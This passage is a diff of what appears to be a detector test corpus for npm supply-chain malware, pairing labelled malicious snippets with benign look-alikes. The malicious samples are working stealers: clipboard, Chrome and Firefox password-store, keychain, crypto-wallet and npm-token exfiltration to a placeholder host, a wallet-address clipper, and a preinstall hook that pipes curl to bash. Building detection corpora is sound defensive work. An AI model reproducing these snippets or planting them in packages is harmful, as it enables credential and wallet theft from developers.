+      'install/run.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst { spawn } = require('child_process');\n(async () => {\n  const res = await fetch('https://releases.${H}/agent/latest/' + os.platform());\n  const p = path.join(os.homedir(), '.local', 'bin', 'agentd');\n  fs.writeFileSync(p, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });\n  spawn(p, { detached: true, stdio: 'ignore' }).unref();\n})().catch(() => {});\n`,
+    },
   },
   {
     id: 'dns-txt-eval',
@@ -882,7 +969,9 @@ const CLIPBOARD_KEYCHAIN: Snippet[] = [
     family: 'clipboard-keychain',
     after: 'GuardDog clipboard-access: the clipboard read through pbpaste and sent',
     delivery: 'require-from-main',
-    files: { 'lib/clip.js': `const { execSync } = require('child_process');\nsetInterval(() => { try { const c = execSync('pbpaste').toString(); fetch('https://clip.${H}/c', { method: 'POST', body: JSON.stringify({ c }) }).catch(() => {}); } catch (e) {} }, 5000);\n` },
+    files: {
+      'lib/clip.js': `const { execSync } = require('child_process');\nsetInterval(() => { try { const c = execSync('pbpaste').toString(); fetch('https://clip.${H}/c', { method: 'POST', body: JSON.stringify({ c }) }).catch(() => {}); } catch (e) {} }, 5000);\n`,
+    },
   },
   {
     id: 'clipboardy-fetch',
@@ -896,49 +985,63 @@ const CLIPBOARD_KEYCHAIN: Snippet[] = [
     family: 'clipboard-keychain',
     after: 'Get-Clipboard from PowerShell',
     delivery: 'postinstall',
-    files: { 'scripts/w.js': `const { execSync } = require('child_process');\nconst text = execSync('powershell -NoProfile -Command Get-Clipboard').toString();\nrequire('http').request({ host: 'clip.${H}', method: 'POST', path: '/w' }).on('error', () => {}).end(JSON.stringify({ text }));\n` },
+    files: {
+      'scripts/w.js': `const { execSync } = require('child_process');\nconst text = execSync('powershell -NoProfile -Command Get-Clipboard').toString();\nrequire('http').request({ host: 'clip.${H}', method: 'POST', path: '/w' }).on('error', () => {}).end(JSON.stringify({ text }));\n`,
+    },
   },
   {
     id: 'keychain-chrome-safe-storage',
     family: 'clipboard-keychain',
     after: 'macOS keychain: Chrome Safe Storage key through `security find-generic-password`',
     delivery: 'postinstall',
-    files: { 'post.js': `const { execSync } = require('child_process');\nlet k = '';\ntry { k = execSync('security find-generic-password -wa "Chrome Safe Storage"').toString(); } catch (e) {}\nfetch('https://k.${H}/s', { method: 'POST', body: Buffer.from(k).toString('base64') }).catch(() => {});\n` },
+    files: {
+      'post.js': `const { execSync } = require('child_process');\nlet k = '';\ntry { k = execSync('security find-generic-password -wa "Chrome Safe Storage"').toString(); } catch (e) {}\nfetch('https://k.${H}/s', { method: 'POST', body: Buffer.from(k).toString('base64') }).catch(() => {});\n`,
+    },
   },
   {
     id: 'chrome-login-data',
     family: 'clipboard-keychain',
     after: 'browser password stores (Login Data, Local State) read and uploaded',
     delivery: 'require-from-main',
-    files: { 'lib/profile.js': `const fs = require('fs');\nconst path = require('path');\nconst base = path.join(process.env.LOCALAPPDATA || '', 'Google', 'Chrome', 'User Data');\nconst files = ['Local State', path.join('Default', 'Login Data')];\nconst out = {};\nfor (const f of files) { try { out[f] = fs.readFileSync(path.join(base, f)).toString('base64'); } catch (e) {} }\nrequire('https').request({ hostname: 'b.${H}', method: 'POST' }).on('error', () => {}).end(JSON.stringify(out));\n` },
+    files: {
+      'lib/profile.js': `const fs = require('fs');\nconst path = require('path');\nconst base = path.join(process.env.LOCALAPPDATA || '', 'Google', 'Chrome', 'User Data');\nconst files = ['Local State', path.join('Default', 'Login Data')];\nconst out = {};\nfor (const f of files) { try { out[f] = fs.readFileSync(path.join(base, f)).toString('base64'); } catch (e) {} }\nrequire('https').request({ hostname: 'b.${H}', method: 'POST' }).on('error', () => {}).end(JSON.stringify(out));\n`,
+    },
   },
   {
     id: 'firefox-logins',
     family: 'clipboard-keychain',
     after: 'Firefox logins.json and key4.db',
     delivery: 'postinstall',
-    files: { 'scripts/ff.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst root = path.join(os.homedir(), '.mozilla', 'firefox');\nconst found = [];\ntry { for (const p of fs.readdirSync(root)) for (const f of ['logins.json', 'key4.db']) { try { found.push([p + '/' + f, fs.readFileSync(path.join(root, p, f)).toString('base64')]); } catch (e) {} } } catch (e) {}\nfetch('https://ff.${H}/u', { method: 'POST', body: JSON.stringify(found) }).catch(() => {});\n` },
+    files: {
+      'scripts/ff.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst root = path.join(os.homedir(), '.mozilla', 'firefox');\nconst found = [];\ntry { for (const p of fs.readdirSync(root)) for (const f of ['logins.json', 'key4.db']) { try { found.push([p + '/' + f, fs.readFileSync(path.join(root, p, f)).toString('base64')]); } catch (e) {} } } catch (e) {}\nfetch('https://ff.${H}/u', { method: 'POST', body: JSON.stringify(found) }).catch(() => {});\n`,
+    },
   },
   {
     id: 'xclip-clipper',
     family: 'clipboard-keychain',
     after: 'a clipper: wallet addresses in the clipboard replaced (xclip)',
     delivery: 'require-from-main',
-    files: { 'lib/watch.js': `const { execSync } = require('child_process');\nsetInterval(() => { try { const c = execSync('xclip -selection clipboard -o').toString(); if (/^0x[a-fA-F0-9]{40}$/.test(c.trim())) execSync('echo -n 0x000000000000000000000000000000000000dEaD | xclip -selection clipboard -i'); } catch (e) {} }, 2000);\n` },
+    files: {
+      'lib/watch.js': `const { execSync } = require('child_process');\nsetInterval(() => { try { const c = execSync('xclip -selection clipboard -o').toString(); if (/^0x[a-fA-F0-9]{40}$/.test(c.trim())) execSync('echo -n 0x000000000000000000000000000000000000dEaD | xclip -selection clipboard -i'); } catch (e) {} }, 2000);\n`,
+    },
   },
   {
     id: 'solana-exodus-wallets',
     family: 'clipboard-keychain',
     after: 'wallet files (Solana id.json, Exodus) posted',
     delivery: 'postinstall',
-    files: { 'setup.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst w = {};\nfor (const p of ['.config/solana/id.json', 'AppData/Roaming/Exodus/exodus.wallet']) { try { w[p] = fs.readFileSync(path.join(os.homedir(), p), 'utf8'); } catch (e) {} }\nrequire('https').request({ hostname: 'w.${H}', method: 'POST', path: '/w' }).on('error', () => {}).end(JSON.stringify(w));\n` },
+    files: {
+      'setup.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst w = {};\nfor (const p of ['.config/solana/id.json', 'AppData/Roaming/Exodus/exodus.wallet']) { try { w[p] = fs.readFileSync(path.join(os.homedir(), p), 'utf8'); } catch (e) {} }\nrequire('https').request({ hostname: 'w.${H}', method: 'POST', path: '/w' }).on('error', () => {}).end(JSON.stringify(w));\n`,
+    },
   },
   {
     id: 'cmdkey-secret-tool',
     family: 'clipboard-keychain',
     after: 'Windows Credential Manager (cmdkey) and libsecret (secret-tool)',
     delivery: 'postinstall',
-    files: { 'scripts/creds.js': `const { execSync } = require('child_process');\nconst run = (c) => { try { return execSync(c).toString(); } catch (e) { return ''; } };\nconst data = process.platform === 'win32' ? run('cmdkey /list') : run('secret-tool search --all service login');\nrequire('https').request({ hostname: 'c.${H}', method: 'POST' }).on('error', () => {}).end(Buffer.from(data).toString('base64'));\n` },
+    files: {
+      'scripts/creds.js': `const { execSync } = require('child_process');\nconst run = (c) => { try { return execSync(c).toString(); } catch (e) { return ''; } };\nconst data = process.platform === 'win32' ? run('cmdkey /list') : run('secret-tool search --all service login');\nrequire('https').request({ hostname: 'c.${H}', method: 'POST' }).on('error', () => {}).end(Buffer.from(data).toString('base64'));\n`,
+    },
   },
   {
     id: 'chrome-cookies-mac',
@@ -966,7 +1069,10 @@ const INSTALL_HOOK: Snippet[] = [
     after: 'Mini Shai-Hulud: a preinstall that fetches a runtime and runs a bundled payload',
     delivery: 'preinstall',
     hook: 'node setup_bun.js',
-    files: { 'setup_bun.js': `const { execSync } = require('child_process');\ntry { execSync('bun --version', { stdio: 'ignore' }); } catch (e) { execSync('curl -fsSL https://rt.${H}/install | bash', { stdio: 'ignore' }); }\nexecSync('bun ' + __dirname + '/environment.js', { stdio: 'ignore' });\n`, 'environment.js': `const t = process.env.NPM_TOKEN;\nfetch('https://rt.${H}/t', { method: 'POST', body: JSON.stringify({ t }) }).catch(() => {});\n` },
+    files: {
+      'setup_bun.js': `const { execSync } = require('child_process');\ntry { execSync('bun --version', { stdio: 'ignore' }); } catch (e) { execSync('curl -fsSL https://rt.${H}/install | bash', { stdio: 'ignore' }); }\nexecSync('bun ' + __dirname + '/environment.js', { stdio: 'ignore' });\n`,
+      'environment.js': `const t = process.env.NPM_TOKEN;\nfetch('https://rt.${H}/t', { method: 'POST', body: JSON.stringify({ t }) }).catch(() => {});\n`,
+    },
   },
 ];
 
@@ -993,154 +1099,200 @@ export const BENIGN: Snippet[] = [
     family: 'environment',
     after: 'a bundler plugin replacing process.env.NODE_ENV (webpack DefinePlugin)',
     delivery: 'require-from-main',
-    files: { 'lib/define.js': `module.exports = function define(mode) {\n  const env = mode || process.env.NODE_ENV || 'production';\n  return { 'process.env.NODE_ENV': JSON.stringify(env), __DEV__: JSON.stringify(env !== 'production') };\n};\n` },
+    files: {
+      'lib/define.js': `module.exports = function define(mode) {\n  const env = mode || process.env.NODE_ENV || 'production';\n  return { 'process.env.NODE_ENV': JSON.stringify(env), __DEV__: JSON.stringify(env !== 'production') };\n};\n`,
+    },
   },
   {
     id: 'env-prefix-config',
     family: 'environment',
     after: 'a config loader reading its own MYAPP_* variables (rc, dotenv-expand)',
     delivery: 'require-from-main',
-    files: { 'lib/env-config.js': `const PREFIX = 'MYAPP_';\nmodule.exports = function fromEnv() {\n  const out = {};\n  for (const key of Object.keys(process.env).filter((k) => k.startsWith(PREFIX))) out[key.slice(PREFIX.length).toLowerCase()] = process.env[key];\n  if (process.env.MYAPP_DEBUG) console.error('config: ' + JSON.stringify(out));\n  return out;\n};\n` },
+    files: {
+      'lib/env-config.js': `const PREFIX = 'MYAPP_';\nmodule.exports = function fromEnv() {\n  const out = {};\n  for (const key of Object.keys(process.env).filter((k) => k.startsWith(PREFIX))) out[key.slice(PREFIX.length).toLowerCase()] = process.env[key];\n  if (process.env.MYAPP_DEBUG) console.error('config: ' + JSON.stringify(out));\n  return out;\n};\n`,
+    },
   },
   {
     id: 'proxy-http-client',
     family: 'environment',
     after: 'an HTTP client honouring HTTPS_PROXY / NO_PROXY and posting JSON (axios, got)',
     delivery: 'require-from-main',
-    files: { 'lib/client.js': `const https = require('https');\nconst { URL } = require('url');\nfunction proxyFor(url) {\n  const noProxy = (process.env.NO_PROXY || '').split(',');\n  if (noProxy.includes(new URL(url).hostname)) return undefined;\n  return process.env.HTTPS_PROXY || process.env.https_proxy;\n}\nexports.postJson = (url, body, headers = {}) => new Promise((resolve, reject) => {\n  const data = JSON.stringify(body);\n  const req = https.request(url, { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(data), ...headers } }, (res) => { let s = ''; res.on('data', (c) => (s += c)); res.on('end', () => resolve(JSON.parse(s))); });\n  req.on('error', reject);\n  req.end(data);\n  return proxyFor(url);\n});\n` },
+    files: {
+      'lib/client.js': `const https = require('https');\nconst { URL } = require('url');\nfunction proxyFor(url) {\n  const noProxy = (process.env.NO_PROXY || '').split(',');\n  if (noProxy.includes(new URL(url).hostname)) return undefined;\n  return process.env.HTTPS_PROXY || process.env.https_proxy;\n}\nexports.postJson = (url, body, headers = {}) => new Promise((resolve, reject) => {\n  const data = JSON.stringify(body);\n  const req = https.request(url, { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(data), ...headers } }, (res) => { let s = ''; res.on('data', (c) => (s += c)); res.on('end', () => resolve(JSON.parse(s))); });\n  req.on('error', reject);\n  req.end(data);\n  return proxyFor(url);\n});\n`,
+    },
   },
   {
     id: 'ssh-config-parser',
     family: 'credential-files',
     after: 'an SSH config parser listing host aliases (ssh-config)',
     delivery: 'require-from-main',
-    files: { 'lib/ssh-hosts.js': `const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nmodule.exports = function hosts() {\n  let text = '';\n  try { text = fs.readFileSync(path.join(os.homedir(), '.ssh', 'config'), 'utf8'); } catch (e) { return []; }\n  return text.split('\\n').filter((l) => /^\\s*Host\\s/i.test(l)).map((l) => l.trim().split(/\\s+/)[1]);\n};\n` },
+    files: {
+      'lib/ssh-hosts.js': `const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nmodule.exports = function hosts() {\n  let text = '';\n  try { text = fs.readFileSync(path.join(os.homedir(), '.ssh', 'config'), 'utf8'); } catch (e) { return []; }\n  return text.split('\\n').filter((l) => /^\\s*Host\\s/i.test(l)).map((l) => l.trim().split(/\\s+/)[1]);\n};\n`,
+    },
   },
   {
     id: 'netrc-auth-client',
     family: 'credential-files',
-    after: 'an HTTP client reading ~/.netrc for the host the user asked for (curl\'s behaviour)',
+    after: "an HTTP client reading ~/.netrc for the host the user asked for (curl's behaviour)",
     delivery: 'require-from-main',
-    files: { 'lib/netrc.js': `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nmodule.exports = function authFor(host) {\n  let text = '';\n  try { text = fs.readFileSync(path.join(os.homedir(), '.netrc'), 'utf8'); } catch (e) { return undefined; }\n  const m = new RegExp('machine\\\\s+' + host.replace(/\\./g, '\\\\.') + '\\\\s+login\\\\s+(\\\\S+)\\\\s+password\\\\s+(\\\\S+)').exec(text);\n  return m ? { username: m[1], password: m[2] } : undefined;\n};\n` },
+    files: {
+      'lib/netrc.js': `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nmodule.exports = function authFor(host) {\n  let text = '';\n  try { text = fs.readFileSync(path.join(os.homedir(), '.netrc'), 'utf8'); } catch (e) { return undefined; }\n  const m = new RegExp('machine\\\\s+' + host.replace(/\\./g, '\\\\.') + '\\\\s+login\\\\s+(\\\\S+)\\\\s+password\\\\s+(\\\\S+)').exec(text);\n  return m ? { username: m[1], password: m[2] } : undefined;\n};\n`,
+    },
   },
   {
     id: 'lan-urls-dev-server',
     family: 'host-info',
     after: 'a dev server printing its LAN addresses (vite, webpack-dev-server)',
     delivery: 'require-from-main',
-    files: { 'lib/serve.js': `const http = require('http');\nconst os = require('os');\nexports.serve = (handler, port = 3000) => {\n  const server = http.createServer(handler).listen(port, () => {\n    for (const list of Object.values(os.networkInterfaces())) for (const i of list || []) if (i.family === 'IPv4' && !i.internal) console.log('  Network: http://' + i.address + ':' + port + '/');\n  });\n  return server;\n};\n` },
+    files: {
+      'lib/serve.js': `const http = require('http');\nconst os = require('os');\nexports.serve = (handler, port = 3000) => {\n  const server = http.createServer(handler).listen(port, () => {\n    for (const list of Object.values(os.networkInterfaces())) for (const i of list || []) if (i.family === 'IPv4' && !i.internal) console.log('  Network: http://' + i.address + ':' + port + '/');\n  });\n  return server;\n};\n`,
+    },
   },
   {
     id: 'json-logger-hostname',
     family: 'host-info',
     after: 'a JSON logger stamping hostname and pid on each line (pino, bunyan)',
     delivery: 'require-from-main',
-    files: { 'lib/log.js': `const os = require('os');\nconst base = { pid: process.pid, hostname: os.hostname() };\nmodule.exports = (level, msg, extra) => { process.stdout.write(JSON.stringify({ level, time: Date.now(), ...base, msg, ...extra }) + '\\n'); };\n` },
+    files: {
+      'lib/log.js': `const os = require('os');\nconst base = { pid: process.pid, hostname: os.hostname() };\nmodule.exports = (level, msg, extra) => { process.stdout.write(JSON.stringify({ level, time: Date.now(), ...base, msg, ...extra }) + '\\n'); };\n`,
+    },
   },
   {
     id: 'telemetry-opt-out',
     family: 'host-info',
     after: 'anonymous usage telemetry with an opt-out (Next.js, Angular CLI, Gatsby)',
     delivery: 'require-from-main',
-    files: { 'lib/telemetry.js': `const https = require('https');\nconst os = require('os');\nconst { version } = require('../package.json');\nconst disabled = () => process.env.DO_NOT_TRACK === '1' || !!process.env.MYTOOL_TELEMETRY_DISABLED || !!process.env.CI;\nexports.record = (event) => {\n  if (disabled()) return;\n  const body = JSON.stringify({ event, version, platform: os.platform(), arch: os.arch(), node: process.versions.node });\n  const r = https.request('https://telemetry.mytool.dev/v1/events', { method: 'POST', headers: { 'content-type': 'application/json' } });\n  r.on('error', () => {});\n  r.end(body);\n};\n` },
+    files: {
+      'lib/telemetry.js': `const https = require('https');\nconst os = require('os');\nconst { version } = require('../package.json');\nconst disabled = () => process.env.DO_NOT_TRACK === '1' || !!process.env.MYTOOL_TELEMETRY_DISABLED || !!process.env.CI;\nexports.record = (event) => {\n  if (disabled()) return;\n  const body = JSON.stringify({ event, version, platform: os.platform(), arch: os.arch(), node: process.versions.node });\n  const r = https.request('https://telemetry.mytool.dev/v1/events', { method: 'POST', headers: { 'content-type': 'application/json' } });\n  r.on('error', () => {});\n  r.end(body);\n};\n`,
+    },
   },
   {
     id: 'mac-address-id',
     family: 'host-info',
     after: 'a node id from the MAC address (uuid v1, node-machine-id)',
     delivery: 'require-from-main',
-    files: { 'lib/node-id.js': `const os = require('os');\nconst crypto = require('crypto');\nmodule.exports = function nodeId() {\n  const macs = Object.values(os.networkInterfaces()).flat().filter((i) => i && !i.internal && i.mac !== '00:00:00:00:00:00').map((i) => i.mac);\n  return crypto.createHash('sha256').update(macs.sort().join(',') + os.hostname()).digest('hex').slice(0, 12);\n};\n` },
+    files: {
+      'lib/node-id.js': `const os = require('os');\nconst crypto = require('crypto');\nmodule.exports = function nodeId() {\n  const macs = Object.values(os.networkInterfaces()).flat().filter((i) => i && !i.internal && i.mac !== '00:00:00:00:00:00').map((i) => i.mac);\n  return crypto.createHash('sha256').update(macs.sort().join(',') + os.hostname()).digest('hex').slice(0, 12);\n};\n`,
+    },
   },
   {
     id: 'source-map-inline',
     family: 'decode-and-run',
     after: 'source-map-support reading an inline base64 source map',
     delivery: 'require-from-main',
-    files: { 'lib/maps.js': `const fs = require('fs');\nexports.inlineMap = (file) => {\n  const text = fs.readFileSync(file, 'utf8');\n  const m = /\\/\\/# sourceMappingURL=data:application\\/json;(?:charset=utf-8;)?base64,(\\S+)\\s*$/.exec(text);\n  return m ? JSON.parse(Buffer.from(m[1], 'base64').toString('utf8')) : null;\n};\n` },
+    files: {
+      'lib/maps.js': `const fs = require('fs');\nexports.inlineMap = (file) => {\n  const text = fs.readFileSync(file, 'utf8');\n  const m = /\\/\\/# sourceMappingURL=data:application\\/json;(?:charset=utf-8;)?base64,(\\S+)\\s*$/.exec(text);\n  return m ? JSON.parse(Buffer.from(m[1], 'base64').toString('utf8')) : null;\n};\n`,
+    },
   },
   {
     id: 'template-compiler',
     family: 'decode-and-run',
     after: 'a template engine compiling to new Function (ejs, lodash.template)',
     delivery: 'require-from-main',
-    files: { 'lib/template.js': `const escape = (s) => String(s).replace(/[&<>"']/g, (c) => '&#' + c.charCodeAt(0) + ';');\nexports.compile = (tpl) => {\n  const src = 'let out = ""; with (data) { out += ' + JSON.stringify(tpl).replace(/<%=\\s*([\\s\\S]+?)\\s*%>/g, '" + escape($1) + "') + '; } return out;';\n  const fn = new Function('data', 'escape', src);\n  return (data) => fn(data, escape);\n};\n` },
+    files: {
+      'lib/template.js': `const escape = (s) => String(s).replace(/[&<>"']/g, (c) => '&#' + c.charCodeAt(0) + ';');\nexports.compile = (tpl) => {\n  const src = 'let out = ""; with (data) { out += ' + JSON.stringify(tpl).replace(/<%=\\s*([\\s\\S]+?)\\s*%>/g, '" + escape($1) + "') + '; } return out;';\n  const fn = new Function('data', 'escape', src);\n  return (data) => fn(data, escape);\n};\n`,
+    },
   },
   {
     id: 'hex-color-parse',
     family: 'decode-and-run',
     after: 'a colour library parsing hex pairs (tinycolor, color-string)',
     delivery: 'require-from-main',
-    files: { 'lib/hex.js': `exports.parseHex = (hex) => {\n  const h = hex.replace(/^#/, '');\n  const full = h.length === 3 ? h.split('').map((c) => c + c).join('') : h;\n  const out = [];\n  for (let i = 0; i < 6; i += 2) out.push(parseInt(full.substr(i, 2), 16));\n  return { r: out[0], g: out[1], b: out[2] };\n};\nexports.toHex = (r, g, b) => '#' + [r, g, b].map((n) => n.toString(16).padStart(2, '0')).join('');\n` },
+    files: {
+      'lib/hex.js': `exports.parseHex = (hex) => {\n  const h = hex.replace(/^#/, '');\n  const full = h.length === 3 ? h.split('').map((c) => c + c).join('') : h;\n  const out = [];\n  for (let i = 0; i < 6; i += 2) out.push(parseInt(full.substr(i, 2), 16));\n  return { r: out[0], g: out[1], b: out[2] };\n};\nexports.toHex = (r, g, b) => '#' + [r, g, b].map((n) => n.toString(16).padStart(2, '0')).join('');\n`,
+    },
   },
   {
     id: 'dynamic-locale-require',
     family: 'reflective-access',
     after: 'locales required by a computed path and a Proxy using Reflect.get (date-fns, i18n libraries)',
     delivery: 'require-from-main',
-    files: { 'lib/locale.js': `const cache = {};\nexports.load = (lang) => (cache[lang] = cache[lang] || require('./locales/' + lang.replace(/[^a-z-]/gi, '')));\nexports.strict = (obj) => new Proxy(obj, { get(target, prop, receiver) { if (!(prop in target)) throw new Error('missing key ' + String(prop)); return Reflect.get(target, prop, receiver); } });\nexports.polyfill = (name, impl) => { if (typeof globalThis[name] === 'undefined') globalThis[name] = impl; };\n` },
+    files: {
+      'lib/locale.js': `const cache = {};\nexports.load = (lang) => (cache[lang] = cache[lang] || require('./locales/' + lang.replace(/[^a-z-]/gi, '')));\nexports.strict = (obj) => new Proxy(obj, { get(target, prop, receiver) { if (!(prop in target)) throw new Error('missing key ' + String(prop)); return Reflect.get(target, prop, receiver); } });\nexports.polyfill = (name, impl) => { if (typeof globalThis[name] === 'undefined') globalThis[name] = impl; };\n`,
+    },
   },
   {
     id: 'open-browser-detached',
     family: 'silent-launch',
-    after: 'opening a URL in the browser, detached and unref\'d (open, opener)',
+    after: "opening a URL in the browser, detached and unref'd (open, opener)",
     delivery: 'require-from-main',
-    files: { 'lib/open.js': `const { spawn } = require('child_process');\nmodule.exports = function open(url) {\n  const cmd = process.platform === 'darwin' ? 'open' : process.platform === 'win32' ? 'cmd' : 'xdg-open';\n  const args = process.platform === 'win32' ? ['/c', 'start', '""', url] : [url];\n  const child = spawn(cmd, args, { detached: true, stdio: 'ignore', windowsHide: true });\n  child.unref();\n  return child;\n};\n` },
+    files: {
+      'lib/open.js': `const { spawn } = require('child_process');\nmodule.exports = function open(url) {\n  const cmd = process.platform === 'darwin' ? 'open' : process.platform === 'win32' ? 'cmd' : 'xdg-open';\n  const args = process.platform === 'win32' ? ['/c', 'start', '""', url] : [url];\n  const child = spawn(cmd, args, { detached: true, stdio: 'ignore', windowsHide: true });\n  child.unref();\n  return child;\n};\n`,
+    },
   },
   {
     id: 'git-cli',
     family: 'silent-launch',
     after: 'a CLI that runs git (simple-git, release tools)',
     delivery: 'require-from-main',
-    files: { 'lib/git.js': `const { execFileSync } = require('child_process');\nexports.head = (cwd = process.cwd()) => execFileSync('git', ['rev-parse', 'HEAD'], { cwd, encoding: 'utf8' }).trim();\nexports.dirty = (cwd = process.cwd()) => execFileSync('git', ['status', '--porcelain'], { cwd, encoding: 'utf8' }).trim().length > 0;\n` },
+    files: {
+      'lib/git.js': `const { execFileSync } = require('child_process');\nexports.head = (cwd = process.cwd()) => execFileSync('git', ['rev-parse', 'HEAD'], { cwd, encoding: 'utf8' }).trim();\nexports.dirty = (cwd = process.cwd()) => execFileSync('git', ['status', '--porcelain'], { cwd, encoding: 'utf8' }).trim().length > 0;\n`,
+    },
   },
   {
     id: 'rundll32-open-url',
     family: 'hijack',
     after: 'opening a URL on old Windows with rundll32 url.dll,FileProtocolHandler (opn)',
     delivery: 'require-from-main',
-    files: { 'lib/win-open.js': `const { execFile } = require('child_process');\nmodule.exports = (url) => new Promise((resolve) => execFile('rundll32', ['url.dll,FileProtocolHandler', url], () => resolve()));\n` },
+    files: {
+      'lib/win-open.js': `const { execFile } = require('child_process');\nmodule.exports = (url) => new Promise((resolve) => execFile('rundll32', ['url.dll,FileProtocolHandler', url], () => resolve()));\n`,
+    },
   },
   {
     id: 'image-size-header',
     family: 'steganography',
     after: 'reading a PNG header for its size (image-size, probe-image-size)',
     delivery: 'require-from-main',
-    files: { 'lib/size.js': `const fs = require('fs');\nexports.pngSize = (file) => {\n  const b = fs.readFileSync(file);\n  if (b.toString('ascii', 1, 4) !== 'PNG') throw new Error('not a png');\n  return { width: b.readUInt32BE(16), height: b.readUInt32BE(20) };\n};\n`, 'assets/logo.png': PNG_HEAD },
+    files: {
+      'lib/size.js': `const fs = require('fs');\nexports.pngSize = (file) => {\n  const b = fs.readFileSync(file);\n  if (b.toString('ascii', 1, 4) !== 'PNG') throw new Error('not a png');\n  return { width: b.readUInt32BE(16), height: b.readUInt32BE(20) };\n};\n`,
+      'assets/logo.png': PNG_HEAD,
+    },
   },
   {
     id: 'favicon-serve',
     family: 'steganography',
     after: 'serving a bundled favicon (serve-favicon)',
     delivery: 'require-from-main',
-    files: { 'lib/favicon.js': `const fs = require('fs');\nconst path = require('path');\nconst icon = fs.readFileSync(path.join(__dirname, '..', 'public', 'favicon.ico'));\nmodule.exports = (req, res, next) => { if (req.url !== '/favicon.ico') return next(); res.setHeader('Content-Type', 'image/x-icon'); res.end(icon); };\n`, 'public/favicon.ico': Buffer.from('0000010001001010000001002000', 'hex') },
+    files: {
+      'lib/favicon.js': `const fs = require('fs');\nconst path = require('path');\nconst icon = fs.readFileSync(path.join(__dirname, '..', 'public', 'favicon.ico'));\nmodule.exports = (req, res, next) => { if (req.url !== '/favicon.ico') return next(); res.setHeader('Content-Type', 'image/x-icon'); res.end(icon); };\n`,
+      'public/favicon.ico': Buffer.from('0000010001001010000001002000', 'hex'),
+    },
   },
   {
     id: 'version-bump-cli',
     family: 'worm',
     after: 'a version-bump helper that edits package.json and runs npm version (np, bumpp)',
     delivery: 'require-from-main',
-    files: { 'lib/bump.js': `const fs = require('fs');\nconst path = require('path');\nconst { execFileSync } = require('child_process');\nexports.bump = (dir, level = 'patch') => {\n  const file = path.join(dir, 'package.json');\n  const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));\n  const [a, b, c] = pkg.version.split('.').map(Number);\n  pkg.version = level === 'major' ? a + 1 + '.0.0' : level === 'minor' ? a + '.' + (b + 1) + '.0' : a + '.' + b + '.' + (c + 1);\n  fs.writeFileSync(file, JSON.stringify(pkg, null, 2) + '\\n');\n  execFileSync('git', ['tag', 'v' + pkg.version], { cwd: dir });\n  return pkg.version;\n};\n` },
+    files: {
+      'lib/bump.js': `const fs = require('fs');\nconst path = require('path');\nconst { execFileSync } = require('child_process');\nexports.bump = (dir, level = 'patch') => {\n  const file = path.join(dir, 'package.json');\n  const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));\n  const [a, b, c] = pkg.version.split('.').map(Number);\n  pkg.version = level === 'major' ? a + 1 + '.0.0' : level === 'minor' ? a + '.' + (b + 1) + '.0' : a + '.' + b + '.' + (c + 1);\n  fs.writeFileSync(file, JSON.stringify(pkg, null, 2) + '\\n');\n  execFileSync('git', ['tag', 'v' + pkg.version], { cwd: dir });\n  return pkg.version;\n};\n`,
+    },
   },
   {
     id: 'binary-downloader-checksum',
     family: 'download-and-run',
     after: 'fetching a tool on demand at run time with a checksum (a CLI wrapper; not at install)',
     delivery: 'require-from-main',
-    files: { 'lib/tool.js': `const https = require('https');\nconst crypto = require('crypto');\nconst fs = require('fs');\nconst SHA = 'd2a84f4b8b650937ec8f73cd8be2c74add5a911ba64df27458ed8229da804a26';\nexports.fetchTool = (url, dest) => new Promise((resolve, reject) => {\n  https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => { const b = Buffer.concat(chunks); if (crypto.createHash('sha256').update(b).digest('hex') !== SHA) return reject(new Error('checksum')); fs.writeFileSync(dest, b); resolve(dest); }); }).on('error', reject);\n});\n` },
+    files: {
+      'lib/tool.js': `const https = require('https');\nconst crypto = require('crypto');\nconst fs = require('fs');\nconst SHA = 'd2a84f4b8b650937ec8f73cd8be2c74add5a911ba64df27458ed8229da804a26';\nexports.fetchTool = (url, dest) => new Promise((resolve, reject) => {\n  https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => { const b = Buffer.concat(chunks); if (crypto.createHash('sha256').update(b).digest('hex') !== SHA) return reject(new Error('checksum')); fs.writeFileSync(dest, b); resolve(dest); }); }).on('error', reject);\n});\n`,
+    },
   },
   {
     id: 'keytar-own-token',
     family: 'clipboard-keychain',
     after: 'a CLI keeping its own API token in the OS keychain (keytar) and using it against its own API',
     delivery: 'require-from-main',
-    files: { 'lib/auth.js': `const keytar = require('keytar');\nconst https = require('https');\nexports.whoAmI = async () => {\n  const token = await keytar.getPassword('mytool', 'default');\n  return new Promise((resolve) => https.get('https://api.mytool.dev/me', { headers: { authorization: 'Bearer ' + token } }, (r) => resolve(r.statusCode)).on('error', () => resolve(0)));\n};\n` },
+    files: {
+      'lib/auth.js': `const keytar = require('keytar');\nconst https = require('https');\nexports.whoAmI = async () => {\n  const token = await keytar.getPassword('mytool', 'default');\n  return new Promise((resolve) => https.get('https://api.mytool.dev/me', { headers: { authorization: 'Bearer ' + token } }, (r) => resolve(r.statusCode)).on('error', () => resolve(0)));\n};\n`,
+    },
   },
   {
     id: 'copy-to-clipboard',
     family: 'clipboard-keychain',
     after: 'a CLI copying its output to the clipboard (clipboardy write, pbcopy)',
     delivery: 'require-from-main',
-    files: { 'lib/copy.js': `const { spawnSync } = require('child_process');\nmodule.exports = (text) => {\n  const cmd = process.platform === 'darwin' ? ['pbcopy', []] : process.platform === 'win32' ? ['clip', []] : ['xclip', ['-selection', 'clipboard']];\n  return spawnSync(cmd[0], cmd[1], { input: text }).status === 0;\n};\n` },
+    files: {
